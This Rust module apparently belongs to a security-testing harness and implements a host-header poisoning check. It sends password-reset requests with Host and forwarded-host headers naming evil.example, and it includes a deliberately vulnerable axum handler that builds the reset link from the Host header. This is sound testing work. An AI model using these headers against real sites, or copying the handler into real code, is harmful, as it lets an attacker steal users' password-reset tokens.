//! Host header poisoning: a mail leads where the sender of the request wants, because its link is made of the `Host` of
//! the request, and its token goes to whoever waits there.

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex, PoisonError};

use super::{Attack, Control};
use crate::Outcome;
use crate::target::Target;

pub const ATTACK: Attack = Attack { name: "host_header", settings: &[], control: Control::Service };

const HEADERS: [&str; 5] = [
    "host: evil.example\r\n",
    "x-forwarded-host: evil.example\r\n",
    "x-forwarded-server: evil.example\r\nx-host: evil.example\r\n",
    "forwarded: host=evil.example;proto=https\r\n",
    "x-original-url: https://evil.example/\r\n",
];

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    for (number, headers) in HEADERS.iter().enumerate() {
        let email = format!("alice{number}@example.com");
        target.create_account(&email).await?;
        let headers = format!("content-type: application/json\r\n{headers}");
        target.send("POST", "/api/v1/forgot-password", &headers, &json!({"email": email}).to_string()).await?;
        let mail = target.mail(&email, "password_reset").await?;
        if mail.to_string().contains("evil.example") {
            return Ok(Outcome::Succeeded(format!("the mail leads to {}", mail["link"])));
        }
    }
    Ok(Outcome::Stopped)
}

type Mails = Arc<Mutex<Vec<Value>>>;

pub async fn service() -> anyhow::Result<Target> {
    let router = Router::new()
        .route("/api/v1/forgot-password", post(forgot_password))
        .route("/dev/inbox.json", get(inbox))
        .with_state(Mails::default());
    Target::service(router).await
}

async fn forgot_password(State(mails): State<Mails>, headers: HeaderMap, Json(body): Json<Value>) -> StatusCode {
    let host = headers.get("host").and_then(|host| host.to_str().ok()).unwrap_or_default();
    let link = format!("https://{host}/reset-password?token=x");
    let mail = json!({"to": body["email"], "kind": "password_reset", "link": link});
    mails.lock().unwrap_or_else(PoisonError::into_inner).push(mail);
    StatusCode::ACCEPTED
}

async fn inbox(State(mails): State<Mails>) -> Json<Value> {
    Json(mails.lock().unwrap_or_else(PoisonError::into_inner).clone().into())
}
